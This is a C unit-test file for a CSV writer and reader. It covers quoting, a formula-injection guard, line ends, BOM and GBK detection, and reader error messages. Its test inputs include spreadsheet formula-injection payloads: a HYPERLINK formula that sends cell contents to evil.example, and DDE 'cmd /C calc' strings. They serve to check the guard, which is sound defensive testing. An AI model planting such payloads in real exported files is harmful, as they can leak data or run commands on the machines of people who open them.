/* csv: the writer's quoting and formula guard, numbers, the reader (line
 * ends, quotes, BOM, errors with line and column), and what the reader
 * gives back for what the writer wrote (table-driven). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "csv.h"
#include "util.h"

/* Texts from outside, as a hostile push or a careless marketer sends them. */
static const char *const hostile[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\n=2+2",
    " =1+1",
    "'=1+1",
    "''@x",
    "' -x",
    "-3",
    "+86 138 0000 0000",
    "=\"\"",
    "'",
    "''",
    "'plain",
    "a=b",
    "a;=1+1",
    "a\t=1+1",
    "门店 42",
    "=门店",
    "",
};

static void test_field(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"plain", "plain"},
        {"", ""},
        {"42", "42"},
        {"门店 42", "门店 42"},
        {"a=b", "a=b"},
        {"'plain", "'plain"},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"multi\nline", "\"multi\nline\""},
        {"cr\r\nlf", "\"cr\r\nlf\""},
        {"a;=1+1", "\"a;=1+1\""},
        {"a\t=1+1", "\"a\t=1+1\""},
        /* every character that starts a formula (OWASP), then ours */
        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(1+1)", "\"'@SUM(1+1)\""},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"\n=1", "\"'\n=1\""},
        {"=", "\"'=\""},
        /* a text that looks like a number is still text from outside */
        {"-3", "\"'-3\""},
        {"+86", "\"'+86\""},
        /* spaces a spreadsheet may trim, and quotes already in front */
        {" =1", "\"' =1\""},
        {"'=1", "\"''=1\""},
        {"''=1", "\"'''=1\""},
        {"'", "'"},
        {" ", " "},
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        struct buf b = {0};
        assert_int_equal(csv_field(&b, cases[i].in), 0);
        assert_string_equal(b.data ? b.data : "", cases[i].out);
        buf_free(&b);
    }
}

static void test_number(void **state)
{
    (void)state;
    static const struct {
        int64_t v;
        const char *out;
    } cases[] = {
        {0, "0"},
        {42, "42"},
        {-3, "-3"},
        {INT64_MAX, "9223372036854775807"},
        {INT64_MIN, "-9223372036854775808"},
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        struct buf b = {0};
        assert_int_equal(csv_number(&b, cases[i].v), 0);
        assert_string_equal(b.data, cases[i].out);
        buf_free(&b);
    }
}

/* No cell the writer makes starts a formula, whatever the text: the first
 * byte of a field (after its opening quote) is never = + - @ tab CR. */
static void test_no_cell_starts_a_formula(void **state)
{
    (void)state;
    for (size_t i = 0; i < WXS_ARRAY_LEN(hostile); i++) {
        struct buf b = {0};
        assert_int_equal(csv_field(&b, hostile[i]), 0);
        const char *cell = b.data ? b.data : "";
        cell += cell[0] == '"';
        cell += strspn(cell, " ");
        assert_null(memchr("=+-@\t\r", cell[0], 6));
        buf_free(&b);
    }
}

/* A line of fields as the writer writes it, read back by the reader. */
static void read_line(const char *text, char ***fl, size_t *n, struct csv_reader **r, FILE **f)
{
    char err[128];
    size_t line;
    *f = fmemopen((void *)text, strlen(text), "r");
    assert_non_null(*f);
    assert_int_equal(csv_open(r, *f), 0);
    assert_int_equal(csv_next(*r, fl, n, &line, err, sizeof(err)), 1);
}

/* channel list -> channel import: each text comes back as it was (a CR
 * comes back as the LF the reader makes of every line end in a value). */
static void test_round_trip(void **state)
{
    (void)state;
    for (size_t i = 0; i < WXS_ARRAY_LEN(hostile); i++) {
        struct buf b = {0}, want = {0};
        struct csv_reader *r;
        FILE *f;
        char **fl;
        size_t n;
        assert_int_equal(csv_field(&b, hostile[i]), 0);
        assert_int_equal(buf_puts(&b, ","), 0);
        assert_int_equal(csv_number(&b, -3), 0);
        assert_int_equal(buf_puts(&b, "\r\n"), 0);
        for (const char *p = hostile[i]; *p; p++)
            if (*p != '\r' || p[1] != '\n')
                assert_int_equal(buf_append(&want, *p == '\r' ? "\n" : p, 1), 0);
        read_line(b.data, &fl, &n, &r, &f);
        assert_int_equal(n, 2);
        assert_string_equal(fl[0], want.data ? want.data : "");
        assert_string_equal(fl[1], "-3");
        csv_close(r);
        fclose(f);
        buf_free(&b);
        buf_free(&want);
    }
}

/* Every record of text as "LINE:field|field;" (the file line it starts on),
 * or "error LINE: message" for the first error. */
static void read_all(const char *text, size_t len, struct buf *out)
{
    FILE *f = fmemopen((void *)text, len, "r");
    struct csv_reader *r;
    char **fl, err[160];
    size_t n, line;
    int rc;
    assert_non_null(f);
    assert_int_equal(csv_open(&r, f), 0);
    while ((rc = csv_next(r, &fl, &n, &line, err, sizeof(err))) == 1) {
        assert_int_equal(buf_printf(out, "%zu:", line), 0);
        for (size_t i = 0; i < n; i++)
            assert_int_equal(buf_printf(out, "%s%s", i ? "|" : "", fl[i]), 0);
        assert_int_equal(buf_puts(out, ";"), 0);
    }
    if (rc < 0)
        assert_int_equal(buf_printf(out, "error %zu: %s", line, err), 0);
    csv_close(r);
    fclose(f);
}

#define IN(s) s, sizeof(s) - 1

static void test_read(void **state)
{
    (void)state;
    static const struct {
        const char *in;
        size_t len;
        const char *out;
    } cases[] = {
        {IN(""), ""},
        {IN("a,b\nc,d\n"), "1:a|b;2:c|d;"},
        {IN("a,b\r\nc,d\r\n"), "1:a|b;2:c|d;"},
        /* Excel's "CSV (Macintosh)": a lone CR ends a line */
        {IN("a,b\rc,d\r"), "1:a|b;2:c|d;"},
        {IN("a\r\nb\rc\nd"), "1:a;2:b;3:c;4:d;"},
        /* nothing dropped at the end: no line end, a lone CR, an empty line */
        {IN("a,b\nc,d"), "1:a|b;2:c|d;"},
        {IN("a,b\r"), "1:a|b;"},
        {IN("a\n\n"), "1:a;"},
        {IN("a\r\n\r\n"), "1:a;"},
        {IN("a\r\r"), "1:a;"},
        {IN("\n\na\n\n\nb\n"), "3:a;6:b;"},
        /* line ends inside quotes: one LF each, the lines still counted */
        {IN("\"x\ny\",z\nq\n"), "1:x\ny|z;3:q;"},
        {IN("\"x\r\ny\",z\r\nq\r\n"), "1:x\ny|z;3:q;"},
        {IN("\"x\ry\",z\rq\r"), "1:x\ny|z;3:q;"},
        {IN("\"\r\n\r\n\"\r\nq"), "1:\n\n;4:q;"},
        /* quoting */
        {IN("\"say \"\"hi\"\"\",\"\",\"a,b\"\n"), "1:say \"hi\"||a,b;"},
        /* a record of empty fields only is skipped like an empty line */
        {IN(",,\n"), ""},
        {IN("\"\"\n"), ""},
        {IN("a,b\n,,,,,\r\n,\"\",\nc,\n"), "1:a|b;4:c|;"},
        {IN(" a , b \n"), "1: a | b ;"},
        /* a UTF-8 BOM is skipped; bytes that only look like one are data */
        {IN("\xef\xbb\xbf"
            "a,b\n"),
         "1:a|b;"},
        {IN("\xef\xbb\xbf"), ""},
        /* not UTF-8: read as GB18030 (EF BB is GBK's 锘) or refused */
        {IN("\xef\xbbx\n"), "1:锘x;"},
        {IN("a\r\n\"b\nc\",d,\xef\n"),
         "error 3: column 3 (byte 6): neither UTF-8 nor GB18030/GBK text (byte 0xef): save it "
         "as \"CSV UTF-8\""},
        /* GBK as Excel saves it on a Chinese Windows: 场景值,名称 / 42,张伟 */
        {IN("\xb3\xa1\xbe\xb0\xd6\xb5,\xc3\xfb\xb3\xc6\r\n42,\xd5\xc5\xce\xb0\r\n"),
         "1:场景值|名称;2:42|张伟;"},
        {IN("\xef\xbb\xbf\xef\xbb\xbf\n"), "1:\xef\xbb\xbf;"},
        /* a BOM says UTF-8: other bytes after it are refused, not guessed */
        {IN("\xef\xbb\xbf"
            "a\n\xd5\xc5\n"),
         "error 2: column 1 (byte 1): not UTF-8 after a UTF-8 BOM (byte 0xd5): save it as "
         "\"CSV UTF-8\""},
        /* the formula guard csv_field writes comes off, other quotes stay */
        {IN("\"'=1+1\",'-3,''@x,'plain,',' =1\n"), "1:=1+1|-3|'@x|'plain|'| =1;"},
        /* errors name the line of the offending byte and its column */
        {IN("a,b\nc,d\0e\n"), "1:a|b;error 2: column 2 (byte 4): a NUL byte"},
        {IN("\0"), "error 1: column 1 (byte 1): a NUL byte"},
        {IN("x\n\"a\r\nb\0\"\n"), "1:x;error 3: column 1 (byte 2): a NUL byte"},
        {IN("ok\r\"a\"\0\r"), "1:ok;error 2: column 1 (byte 4): a NUL byte"},
        {IN("\xff\xfe"
            "a\0,\0"),
         "error 1: the file is UTF-16 (Excel's \"Unicode Text\"): save it as \"CSV UTF-8\""},
        {IN("\xfe\xff\0a"),
         "error 1: the file is UTF-16 (Excel's \"Unicode Text\"): save it as \"CSV UTF-8\""},
        {IN("ok\na\"b,c\n"),
         "1:ok;error 2: column 1 (byte 2): a quote inside a field that does not start with one"},
        {IN("x\r\n1,\"open,\n\n"),
         "1:x;error 2: column 2 (byte 3): the quoted field is never closed"},
        {IN("1,\"x\"y\n"), "error 1: column 2 (byte 6): text after a closing quote"},
        {IN(",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\n"),
         "error 1: column 32 (byte 32): more than 32 fields"},
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        struct buf got = {0};
        read_all(cases[i].in, cases[i].len, &got);
        if (strcmp(got.data ? got.data : "", cases[i].out) != 0)
            print_error("case %zu\n", i);
        assert_string_equal(got.data ? got.data : "", cases[i].out);
        buf_free(&got);
    }
}

/* Which encoding a file was read in, for the CLI to say. */
static void test_encoding(void **state)
{
    (void)state;
    static const struct {
        const char *in;
        size_t len;
        const char *enc;
    } cases[] = {
        {IN("门店,42\n"), "UTF-8"},
        {IN("\xef\xbb\xbf门店,42\n"), "UTF-8 with BOM"},
        {IN("\xc3\xc5\xb5\xea,42\n"), "GB18030"}, /* 门店 in GBK */
    };
    for (size_t i = 0; i < WXS_ARRAY_LEN(cases); i++) {
        FILE *f = fmemopen((void *)cases[i].in, cases[i].len, "r");
        struct csv_reader *r;
        char **fl, err[160];
        size_t n, line;
        assert_non_null(f);
        assert_int_equal(csv_open(&r, f), 0);
        assert_int_equal(csv_next(r, &fl, &n, &line, err, sizeof(err)), 1);
        assert_string_equal(csv_encoding(r), cases[i].enc);
        assert_string_equal(fl[0], "门店");
        csv_close(r);
        fclose(f);
    }
}

/* A record over CSV_MAX_RECORD bytes is refused, not cut short. */
static void test_read_long_record(void **state)
{
    (void)state;
    size_t len = CSV_MAX_RECORD + 10;
    char *text = malloc(len + 8);
    assert_non_null(text);
    memcpy(text, "ok\n\"", 4);
    memset(text + 4, 'x', len);
    memcpy(text + 4 + len, "\"\n", 2);
    struct buf got = {0};
    read_all(text, len + 6, &got);
    assert_string_equal(got.data, "1:ok;error 2: column 1 (byte 65538): the record is longer than "
                                  "65536 bytes");
    buf_free(&got);
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_field),
        cmocka_unit_test(test_number),
        cmocka_unit_test(test_no_cell_starts_a_formula),
        cmocka_unit_test(test_round_trip),
        cmocka_unit_test(test_read),
        cmocka_unit_test(test_read_long_record),
        cmocka_unit_test(test_encoding),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
